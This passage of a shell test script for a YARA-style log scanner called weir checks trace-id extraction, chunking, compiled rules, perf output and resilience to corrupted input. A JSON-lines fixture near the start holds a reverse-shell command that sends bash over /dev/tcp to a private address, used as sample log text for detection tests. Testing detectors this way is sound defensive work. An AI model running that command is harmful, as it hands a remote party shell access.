{"ts":"11:02:45","msg":"Failed password for eve","note":"q-7"}
{"ts":"11:02:46","msg":"bash -i >& /dev/tcp/10.0.0.9/4444 0>&1","req":{"id":"r-107"}}
EOF
# trace_check.py OUT LOG MODE ARG: every trace id in the events is that of its line as the
# mode defines it (computed here independently of weir), and the first live rule has its
# line's id.
cat >"$tmp/trace_check.py" <<'EOF'
import json, re, sys
out, log, mode, arg = sys.argv[1:5]
data = open(log, "rb").read()
lines = data.split(b"\n")

def quoted(line):
    last, cur, esc = None, None, False
    for b in line[:65536]:
        c = bytes([b])
        if esc:
            esc = False
            cur = cur + c if cur is not None else None
        elif c == b"\\":
            esc = True
            cur = cur + c if cur is not None else None
        elif c == b'"':
            last, cur = (cur, None) if cur is not None else (last, b"")
        elif cur is not None:
            cur += c
    return None if last is None else last[:256].decode("utf-8", "replace")

def field(line):
    # weir reads a line only as far as the field: text after the object does not matter.
    try:
        v = json.JSONDecoder().raw_decode(line.decode("utf-8").lstrip(" \t\r"))[0]
    except ValueError:
        return None
    for name in arg.split("."):
        if not isinstance(v, dict) or name not in v:
            return None
        v = v[name]
    if isinstance(v, bool) or v is None:
        return json.dumps(v)
    if isinstance(v, (str, int)):
        return str(v)
    return None

def group(line):
    m = re.search(arg.encode(), line)
    return None if not m or m.group(1) is None else m.group(1).decode("utf-8", "replace")

ext = {"quoted": quoted, "json": field, "regex": group, "none": lambda l: None}[mode]
ids = [ext(l) for l in lines]
events = [json.loads(l) for l in open(out)]
errors = []
first = next(i for i, l in enumerate(lines) if b"Failed password for " in l)
matches = [e for e in events if e["event"] == "match"]
if not matches:
    errors.append("no match events")
for e in matches:
    if any(t not in ids for t in e["trace_ids"]):
        errors.append("%s: trace ids %r not among the lines' %r" % (e["rule"], e["trace_ids"], ids))
    if e["rule"] == "ssh_failed_password":
        want = [ids[first]] if ids[first] is not None else []
        if e["trace_ids"] != want:
            errors.append("ssh_failed_password: trace ids %r, want %r" % (e["trace_ids"], want))
    if mode == "none" and e["trace_ids"]:
        errors.append("--no-trace: %r" % e)
nstrings = 0
for e in events:
    for m in e.get("strings", []):
        nstrings += 1
        n = data[:m["offset"] + m["length"] - 1].count(b"\n")
        if m["trace_id"] != ids[n]:
            errors.append("%s at %d (line %d): trace id %r, want %r"
                          % (m["id"], m["offset"], n + 1, m["trace_id"], ids[n]))
if not nstrings:
    errors.append("no string matches")
for e in errors[:10]:
    print(e)
sys.exit(1 if errors else 0)
EOF
trace_case() { # NAME LOG MODE ARG WEIR-OPTION...
    local name=$1 log=$2 mode=$3 arg=$4 chunk
    shift 4
    for chunk in "" "--chunk-size 1" "--chunk-size 7 --chunk-seed 3"; do
        # shellcheck disable=SC2086
        "$WEIR" scan --json -s $chunk "$@" -r examples/rules/auth.yar "$log" >"$tmp/json" \
            2>"$tmp/err"
        if python3 "$tmp/trace_check.py" "$tmp/json" "$log" "$mode" "$arg" >"$tmp/pyerr" 2>&1; then
            t_ok
        else
            t_fail "$name ${chunk:-whole}"
            show "$tmp/pyerr"
        fi
    done
}
trace_case "quoted trace ids (default)" "$tmp/trace.jsonl" quoted ""
trace_case "quoted trace ids, app.log" examples/logs/app.log quoted ""
trace_case "--trace-json req.id" "$tmp/trace.jsonl" json req.id --trace-json req.id
trace_case "--trace-json note" "$tmp/trace.jsonl" json note --trace-json note
trace_case "--trace-regex src=" "$tmp/trace.jsonl" regex 'src=([0-9.]+)' \
    --trace-regex 'src=([0-9.]+)'
trace_case "--trace-regex on app.log" examples/logs/app.log regex 'T[0-9]+:[0-9]+:([0-9]+)Z' \
    --trace-regex 'T[0-9]+:[0-9]+:([0-9]+)Z'
trace_case "--no-trace" "$tmp/trace.jsonl" none "" --no-trace
# The same ids spelled out, in case the checker above agreed with weir by mistake.
"$WEIR" scan --json --trace-json req.id -r examples/rules/auth.yar "$tmp/trace.jsonl" \
    >"$tmp/json" 2>"$tmp/err"
check "--trace-json: the bruteforce event's ids" python3 - "$tmp/json" <<'EOF'
import json, sys
ev = [e for e in map(json.loads, open(sys.argv[1]))
      if e["event"] == "match" and e["rule"] == "ssh_bruteforce"]
ok = len(ev) == 1 and ev[0]["trace_ids"] == ["r-101", "r-\u00e91", "7"]
if not ok:
    print(ev)
sys.exit(0 if ok else 1)
EOF

# JSON events per stream do not depend on chunking (memory aside).
normalize() {
    python3 -c '
import json, sys
by = {}
for l in sys.stdin:
    e = json.loads(l)
    e.pop("memory", None)
    by.setdefault(e["stream"], []).append(json.dumps(e, sort_keys=True))
for s in sorted(by):
    print("\n".join(by[s]))'
}
"$WEIR" scan -w --json -s -r "$tmp/fmt.yar" "${inputs[@]}" | normalize >"$tmp/ref"
for chunk in "--chunk-size 1" "--chunk-size 7" "--chunk-size 100 --chunk-seed 3"; do
    # shellcheck disable=SC2086
    "$WEIR" scan -w --json -s $chunk -r "$tmp/fmt.yar" "${inputs[@]}" | normalize >"$tmp/got"
    same "--json with $chunk" "$tmp/ref" "$tmp/got"
done

# ---- compiled rules -------------------------------------------------------------

expect_exit "compile" 0 "$WEIR" compile -w ns1:"$tmp/fmt.yar" examples/rules/auth.yar \
    -o "$tmp/rules.wr"
"$WEIR" scan -w -sgme -r ns1:"$tmp/fmt.yar" -r examples/rules/auth.yar "${inputs[@]}" \
    >"$tmp/want" 2>/dev/null
"$WEIR" scan -sgme -C "$tmp/rules.wr" "${inputs[@]}" >"$tmp/got" 2>"$tmp/err"
same "scan -C gives what scan -r gives" "$tmp/want" "$tmp/got"
: >"$tmp/want"
for f in examples/logs/*.log; do
    yara -e ns1:"$tmp/fmt.yar" default:examples/rules/auth.yar "$f" >>"$tmp/want" 2>/dev/null
done
"$WEIR" scan -e --chunk-size 5 -C "$tmp/rules.wr" examples/logs/*.log | sort >"$tmp/got"
sort "$tmp/want" -o "$tmp/want"
same "scan -C against yara" "$tmp/want" "$tmp/got"

size=$(wc -c <"$tmp/rules.wr")
head -c $((size / 2)) "$tmp/rules.wr" >"$tmp/truncated.wr"
cp "$tmp/rules.wr" "$tmp/flipped.wr"
printf '\x5a' | dd of="$tmp/flipped.wr" bs=1 seek=$((size * 2 / 3)) conv=notrunc 2>/dev/null
cmp -s "$tmp/rules.wr" "$tmp/flipped.wr" &&
    printf '\xa5' | dd of="$tmp/flipped.wr" bs=1 seek=$((size * 2 / 3)) conv=notrunc 2>/dev/null
for bad in truncated.wr flipped.wr empty.log; do
    f=$tmp/$bad
    [ "$bad" = empty.log ] && f=$tmp/in/empty.log
    expect_exit "corrupt compiled rules ($bad)" 3 "$WEIR" scan -C "$f" examples/logs/sshd.log
    if [ "$(wc -l <"$tmp/err")" -eq 1 ] && [ ! -s "$tmp/out" ]; then t_ok; else
        t_fail "corrupt compiled rules ($bad): want one line on stderr, nothing on stdout"
        show "$tmp/err"
    fi
done
expect_exit "text file as compiled rules" 3 "$WEIR" scan -C examples/rules/auth.yar \
    examples/logs/sshd.log
expect_exit "missing compiled rules" 3 "$WEIR" scan -C "$tmp/none.wr" examples/logs/sshd.log

# ---- weir perf ------------------------------------------------------------------

expect_exit "perf -c 0" 2 "$WEIR" perf -c 0 -r examples/rules/auth.yar -i examples/logs/sshd.log
expect_exit "perf -c junk" 2 "$WEIR" perf -c 3x -r examples/rules/auth.yar examples/logs/sshd.log
expect_exit "perf -c negative" 2 "$WEIR" perf -c -1 -r examples/rules/auth.yar \
    examples/logs/sshd.log
expect_exit "perf without rules" 2 "$WEIR" perf -c 3 -i examples/logs/sshd.log
expect_exit "perf without files" 2 "$WEIR" perf -c 3 -r examples/rules/auth.yar
expect_exit "perf file given twice" 2 "$WEIR" perf -r examples/rules/auth.yar \
    -i examples/logs/sshd.log examples/logs/sshd.log
expect_exit "perf bad --memory-limit" 2 "$WEIR" perf --memory-limit 10Q \
    -r examples/rules/auth.yar examples/logs/sshd.log
expect_exit "perf two trace options" 2 "$WEIR" perf --no-trace --trace-json a \
    -r examples/rules/auth.yar examples/logs/sshd.log
expect_exit "perf missing file" 3 "$WEIR" perf -r examples/rules/auth.yar \
    -i examples/logs/sshd.log -i "$tmp/no-such.log"
if grep -q "no-such.log" "$tmp/err" && [ ! -s "$tmp/out" ]; then t_ok; else
    t_fail "perf missing file: want the file named on stderr, nothing measured"
    show "$tmp/err"
fi
expect_exit "perf directory input" 3 "$WEIR" perf -r examples/rules/auth.yar -i "$tmp"
expect_exit "perf rule error" 1 "$WEIR" perf -r "$tmp/bad.yar" -i examples/logs/sshd.log
expect_exit "perf --help" 0 "$WEIR" perf --help
check "perf --help: usage" grep -q '^Usage: weir perf' "$tmp/out"
"$WEIR" --help >"$tmp/out"
check "weir --help lists perf" grep -q '^  perf ' "$tmp/out"

perf_inputs=(examples/logs/*.log "$tmp/in/empty.log")
for f in "$CORPUS/OpenSSH/OpenSSH_2k.log" "$CORPUS/Linux/Linux_2k.log"; do
    [ -r "$f" ] && perf_inputs+=("$f")
done
# Independent expectations: sizes and lines from wc, match events from weir scan (each file one
# stream), final results from yara.
for f in "${perf_inputs[@]}"; do
    printf '%s\t%s\t%s\n' "$f" "$(wc -c <"$f")" "$(wc -l <"$f")"
done >"$tmp/perf_files"
"$WEIR" scan --json -r examples/rules/auth.yar "${perf_inputs[@]}" >"$tmp/perf_scan"
for f in "${perf_inputs[@]}"; do yara examples/rules/auth.yar "$f"; done >"$tmp/perf_yara" 2>/dev/null
# perf_check.py PERF-JSON ROUNDS DIR: weir perf --json against the expectations in DIR.
cat >"$tmp/perf_check.py" <<'PYEOF'
import json, sys
out, rounds, d = sys.argv[1], int(sys.argv[2]), sys.argv[3]
files = [l.rstrip("\n").split("\t") for l in open(d + "/perf_files")]
scan = [json.loads(l) for l in open(d + "/perf_scan")]
live = sum(1 for e in scan if e["event"] == "match" and not e["at_close"])
at_close = sum(1 for e in scan if e["event"] == "match" and e["at_close"])
yara = len(open(d + "/perf_yara").read().splitlines())
objs = [json.loads(l) for l in open(out)]
errors = []

def need(c, m):
    if not c:
        errors.append(m)

r = [o for o in objs if o.get("event") == "round"]
st = {o["stream"]: o for o in objs if o.get("event") == "stream"}
sm = [o for o in objs if o.get("event") == "summary"]
need(len(objs) == len(r) + len(st) + len(sm), "unknown objects")
need([o["round"] for o in r] == list(range(1, rounds + 1)), "rounds %r" % [o["round"] for o in r])
total = sum(int(b) for _, b, _ in files)
need(sum(o["bytes"] for o in r) == total,
     "bytes per round sum to %d, files have %d" % (sum(o["bytes"] for o in r), total))
need(r and r[-1]["total_bytes"] == total, "total_bytes %r, files have %d" % (r[-1:], total))
need(all(o["streams"] == len(files) for o in r), "streams per round %r" % [o["streams"] for o in r])
need(all(o["ns"] > 0 and o["memory"] > 0 for o in r), "ns or memory not positive")
need(sum(o["events"] for o in r) == live,
     "events over rounds %d, weir scan has %d" % (sum(o["events"] for o in r), live))
need(r and r[-1]["matching"] == yara,
     "matching after the last round %r, yara reports %d" % (r[-1:], yara))
need(len(st) == len(files), "%d stream objects for %d files" % (len(st), len(files)))
for path, size, lines in files:
    s = st.get(path, {})
    need(s.get("bytes") == int(size), "%s: bytes %r, wc -c %s" % (path, s.get("bytes"), size))
    need(s.get("lines") == int(lines), "%s: lines %r, wc -l %s" % (path, s.get("lines"), lines))
    need(s.get("memory") == sum(s.get("mem", {}).values()), "%s: memory is not its parts" % path)
need(len(sm) == 1, "%d summaries" % len(sm))
if sm:
    need(sm[0]["bytes"] == total, "summary bytes %r" % sm[0]["bytes"])
    need(sm[0]["events"] == live, "summary events %r, weir scan %d" % (sm[0]["events"], live))
    need(sm[0]["events_at_close"] == at_close,
         "events at close %r, weir scan %d" % (sm[0]["events_at_close"], at_close))
    need(sm[0]["results"] == yara, "final results %r, yara %d" % (sm[0]["results"], yara))
    need(sum(s.get("results", 0) for s in st.values()) == yara, "results per stream")
    need(sm[0]["memory_stats"]["streams"] == len(files), "memory_stats %r" % sm[0]["memory_stats"])
for e in errors[:10]:
    print(e)
sys.exit(1 if errors else 0)
PYEOF
for c in 1 3 7; do
    "$WEIR" perf --json -c $c -r examples/rules/auth.yar -i "${perf_inputs[@]}" >"$tmp/perf" \
        2>"$tmp/err"
    if python3 -c 'import json,sys; [json.loads(l) for l in sys.stdin]' <"$tmp/perf"; then
        t_ok
    else
        t_fail "perf -c $c --json: not JSON Lines"
    fi
    if python3 "$tmp/perf_check.py" "$tmp/perf" $c "$tmp" >"$tmp/pyerr" 2>&1; then t_ok; else
        t_fail "perf -c $c --json"
        show "$tmp/pyerr"
    fi
done
# Rounds cut streams anywhere: after round k the rules matching are yara's on each file's first
# k chunks (of len / ROUNDS bytes, the first len % ROUNDS of them one byte longer).
"$WEIR" perf --json -c 7 -r examples/rules/auth.yar -i "${perf_inputs[@]}" >"$tmp/perf"
check "perf -c 7: matching per round is yara's on the prefixes" python3 - "$tmp/perf" 7 \
    "$tmp" "${perf_inputs[@]}" <<'PYEOF'
import json, subprocess, sys
out, rounds, d, files = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4:]
r = [o for o in map(json.loads, open(out)) if o["event"] == "round"]
bad = []
for k in range(1, rounds + 1):
    want = 0
    for f in files:
        data = open(f, "rb").read()
        q, m = divmod(len(data), rounds)
        open(d + "/prefix", "wb").write(data[:k * q + min(k, m)])
        y = subprocess.run(["yara", "examples/rules/auth.yar", d + "/prefix"],
                           capture_output=True, text=True).stdout
        want += len(y.splitlines())
    if r[k - 1]["matching"] != want:
        bad.append("round %d: matching %r, yara %d" % (k, r[k - 1]["matching"], want))
print("\n".join(bad))
sys.exit(1 if bad else 0)
PYEOF
# Text output: a header, one line per round, then per stream, and the summary.
"$WEIR" perf -c 3 -r examples/rules/auth.yar -i "${perf_inputs[@]}" >"$tmp/out" 2>"$tmp/err"
n=$(awk '/^ *round /{h=1; next} h && /^$/{exit} h && /^ *[0-9]+ /{n++} END{print n+0}' "$tmp/out")
if [ "$n" -eq 3 ]; then t_ok; else t_fail "perf -c 3 text: $n round lines, want 3"; fi
want_results=$(wc -l <"$tmp/perf_yara")
check "perf text: summary" grep -Eq \
    "^summary: ${#perf_inputs[@]} streams, 3 rounds, .* $want_results final results$" "$tmp/out"
for f in examples/logs/*.log; do
    check "perf text: $f" grep -Eq "^ *$(wc -c <"$f") +$(wc -l <"$f") .* $f\$" "$tmp/out"
done
# Under a budget too small for any idle stream, every stream is evicted between its chunks and
# restored: the events and results must not change.
strip_perf() {
    python3 -c '
import json, sys
for l in sys.stdin:
    o = json.loads(l)
    for k in ("ns", "mbps", "memory", "mem", "evicted", "string_matches", "rules_fired",
              "memory_stats", "results_restores"):
        o.pop(k, None)
    print(json.dumps(o, sort_keys=True))'
}
"$WEIR" perf --json -c 7 -r examples/rules/auth.yar -i "${perf_inputs[@]}" | strip_perf \
    >"$tmp/want"
"$WEIR" perf --json -c 7 --memory-limit 1 -r examples/rules/auth.yar -i "${perf_inputs[@]}" \
    >"$tmp/perf"
strip_perf <"$tmp/perf" >"$tmp/got"
same "perf --memory-limit 1: same events and results" "$tmp/want" "$tmp/got"
check "perf --memory-limit 1: streams evicted and restored" python3 - "$tmp/perf" <<'PYEOF'
import json, sys
m = [json.loads(l) for l in open(sys.argv[1])][-1]["memory_stats"]
ok = m["limit"] == 1 and m["evictions"] > 0 and m["restores"] > 0
if not ok:
    print(m)
sys.exit(0 if ok else 1)
PYEOF
expect_exit "perf -C" 0 "$WEIR" perf -c 2 -C "$tmp/rules.wr" -i "${perf_inputs[@]}"
check "perf -C: summary" grep -q "final results$" "$tmp/out"

# Limits: a warning on stderr names the stream, rule and string, the output is yara's with the
# matches past the limit dropped, and -w silences it.
printf 'rule many { strings: $a = "ab" condition: #a > 3 }\nrule few { strings: $a = "ab" condition: #a <= 3 }\nrule loop { condition: for all i in (0..100000000) : (i >= 0) }\n' >"$tmp/lim.yar"
printf 'ab ab\nab ab ab\n' >"$tmp/lim.txt"
"$WEIR" scan --max-matches 3 -r "$tmp/lim.yar" "$tmp/lim.txt" >"$tmp/lim_out" 2>"$tmp/lim_err"
check "--max-matches: exit 0" test $? -eq 0
printf 'few %s\n' "$tmp/lim.txt" >"$tmp/lim_want"
same "--max-matches 3: #a stops at 3" "$tmp/lim_want" "$tmp/lim_out"
check "--max-matches: warning names stream, rule and string" \
    grep -qF "weir: warning: $tmp/lim.txt: rule \"many\": \$a reached 3 matches" "$tmp/lim_err"
check "--max-matches: one warning per string" test "$(grep -c 'reached 3 matches' "$tmp/lim_err")" -eq 2
check "default eval steps: the huge loop is stopped at the line and at close" \
    test "$(grep -c 'rule "loop": condition ran out of 10000000 evaluation steps' "$tmp/lim_err")" -eq 2
"$WEIR" scan -w --max-matches 3 -r "$tmp/lim.yar" "$tmp/lim.txt" >"$tmp/lim_out" 2>"$tmp/lim_err"
check "-w: no limit warnings" test ! -s "$tmp/lim_err"
same "-w: same output" "$tmp/lim_want" "$tmp/lim_out"
"$WEIR" scan --max-eval-steps 1000 -r "$tmp/lim.yar" "$tmp/lim.txt" >"$tmp/lim_out" 2>"$tmp/lim_err"
check "--max-eval-steps: warning says the rule does not match" \
    grep -qF 'condition ran out of 1000 evaluation steps (--max-eval-steps) at offset 15; the rule does not match' "$tmp/lim_err"
expect_exit "--max-matches 0" 2 "$WEIR" scan --max-matches 0 -r "$tmp/lim.yar" "$tmp/lim.txt"
expect_exit "--max-matches over yara's" 2 "$WEIR" scan --max-matches 2M -r "$tmp/lim.yar" "$tmp/lim.txt"
expect_exit "--max-eval-steps junk" 2 "$WEIR" scan --max-eval-steps 1x -r "$tmp/lim.yar" "$tmp/lim.txt"

# --records: each line is a file of its own.  The oracle: yara on every line of the logs written
# to a file of its own (without its newline), as "RULE STREAM:LINE".
mkdir -p "$tmp/rec"
: >"$tmp/rec_want"
for f in examples/logs/*.log; do
    n=0
    while IFS= read -r line || [ -n "$line" ]; do
        n=$((n + 1))
        printf '%s' "$line" >"$tmp/rec/line"
        yara -w examples/rules/auth.yar "$tmp/rec/line" | awk -v s="$f" -v n="$n" \
            '{print $1, s ":" n}' >>"$tmp/rec_want"
    done <"$f"
done
sort "$tmp/rec_want" -o "$tmp/rec_want"
check "records: yara finds something" test -s "$tmp/rec_want"
for chunk in 1 7 65536; do
    "$WEIR" scan --records --chunk-size "$chunk" -r examples/rules/auth.yar examples/logs/*.log |
        sort >"$tmp/rec_got"
    same "scan --records --chunk-size $chunk = yara line by line" "$tmp/rec_want" "$tmp/rec_got"
done
"$WEIR" scan --records --json -r examples/rules/auth.yar examples/logs/sshd.log >"$tmp/rec_json"
check "scan --records --json: one event per matching line, with its trace id" \
    python3 - "$tmp/rec_json" examples/logs/sshd.log "$tmp/rec_want" <<'PYEOF'
import json, re, sys
ev = [json.loads(l) for l in open(sys.argv[1]) if '"match"' in l]
lines = open(sys.argv[2]).read().split("\n")
want = sorted(l.split()[0] + " " + l.split(":")[-1].strip() for l in open(sys.argv[3])
              if sys.argv[2] + ":" in l)
got = sorted(e["rule"] + " " + str(e["line"]) for e in ev)
ok = got == want
for e in ev:
    q = re.findall(r'"((?:[^"\\]|\\.)*)"', lines[e["line"] - 1])
    ok = ok and e["trace_ids"] == q[-1:]
if not ok:
    print(got, want)
sys.exit(0 if ok else 1)
PYEOF

# ---- hostile input (docs/hostile.md; tests/test_hostile.c holds the library-level tests) ------

# Damaged compiled rules: any truncation or flipped byte is one clear error and exit status 3.
size=$(wc -c <"$tmp/rules.wr")
for k in $(seq 0 23); do
    at=$((k * size / 24))
    if [ $((k % 2)) -eq 0 ]; then
        head -c "$at" "$tmp/rules.wr" >"$tmp/damaged.wr"
    else
        cp "$tmp/rules.wr" "$tmp/damaged.wr"
        old=$(od -An -tu1 -j "$at" -N 1 "$tmp/rules.wr" | tr -d ' ')
        printf "\\$(printf '%03o' $(((old + 1 + k) % 256)))" |
            dd of="$tmp/damaged.wr" bs=1 seek="$at" conv=notrunc 2>/dev/null
    fi
    expect_exit "damaged compiled rules ($k)" 3 "$WEIR" scan -C "$tmp/damaged.wr" \
        examples/logs/sshd.log
    if [ "$(wc -l <"$tmp/err")" -ne 1 ] || [ -s "$tmp/out" ]; then
        t_fail "damaged compiled rules ($k): want one line on stderr, nothing on stdout"
        show "$tmp/err"
    fi
done

# NUL and high bytes in rule text: a located error, the source line shown whole (a NUL as a
# space) with the caret under the byte.
printf 'rule ok { condition: true }\nrule bad {\n  condition: true \0 and\n}\n' >"$tmp/nul.yar"
expect_exit "NUL byte in a rule" 1 "$WEIR" scan -r "$tmp/nul.yar" examples/logs/sshd.log
if [ "$(sed -n 1p "$tmp/err")" = "$tmp/nul.yar:3:19: error: unexpected character 0x00" ] &&
    [ "$(sed -n 2p "$tmp/err")" = "  condition: true   and" ] &&
    [ "$(sed -n 3p "$tmp/err")" = "                  ^" ]; then t_ok; else
    t_fail "NUL byte in a rule: located, the line shown whole"
    show "$tmp/err"
fi
printf 'rule \xe9t\xe9 { condition: true }\n' >"$tmp/high.yar"
expect_exit "high byte in an identifier" 1 "$WEIR" scan -r "$tmp/high.yar" examples/logs/sshd.log
if grep -q "high.yar:1:6: error: unexpected character 0xe9" "$tmp/err"; then t_ok; else
    t_fail "high byte in an identifier: located error"
    show "$tmp/err"
fi

# A NUL inside a string keeps what precedes it in its run, as yara does (with a warning).
printf 'rule n { strings: $a = "Fai\0led\\x20pass" condition: $a }\n' >"$tmp/nulstr.yar"
printf 'Fai password\nFailed password\n' >"$tmp/nulstr.log"
yara -s "$tmp/nulstr.yar" "$tmp/nulstr.log" 2>/dev/null | sed "s|$tmp/nulstr.log|S|" >"$tmp/want"
"$WEIR" scan -s -r "$tmp/nulstr.yar" "$tmp/nulstr.log" 2>"$tmp/err" |
    sed "s|$tmp/nulstr.log|S|" >"$tmp/got"
same "NUL in a string: as yara" "$tmp/want" "$tmp/got"
check "NUL in a string: a warning" grep -q "warning: NUL byte" "$tmp/err"

# JSON output stays JSON whatever the bytes: trace ids with invalid UTF-8, control bytes,
# quotes and backslashes come back byte for byte (each byte as the code point of its value).
printf 'rule r { strings: $a = "hit" condition: $a }\n' >"$tmp/hit.yar"
printf 'hit "\xc3\x28\xff\x01\x7f\\\\x\\"q" \0 \xe9t\nhit "\xed\xa0\x80"\n' >"$tmp/hostile.log"
"$WEIR" scan --json --strings -r "$tmp/hit.yar" "$tmp/hostile.log" >"$tmp/hostile.json"
check "JSON output with hostile trace ids" python3 - "$tmp/hostile.json" <<'PYEOF'
import json, sys
ids = []
for l in open(sys.argv[1], "rb"):
    e = json.loads(l.decode("ascii"))
    if e["event"] == "final":
        ids = [s["trace_id"].encode("latin-1") for s in e["strings"]]
want = [b'\xc3(\xff\x01\x7f\\\\x\\"q', b'\xed\xa0\x80']
if ids != want:
    print(ids, want)
sys.exit(0 if ids == want else 1)
PYEOF

# Rules yara refuses as too complex or too long are refused, at the string.
python3 -c "print('rule big { strings: \$a = /x' + '(a|b)?' * 65 + '/ condition: \$a }')" \
    >"$tmp/complex.yar"
expect_exit "regex with 130 splits" 1 "$WEIR" scan -r "$tmp/complex.yar" examples/logs/sshd.log
check "regex with 130 splits: located" \
    grep -q "complex.yar:1:27: error: regular expression is too complex" "$tmp/err"

echo "$pass passed, $fail failed"
[ "$fail" -eq 0 ]
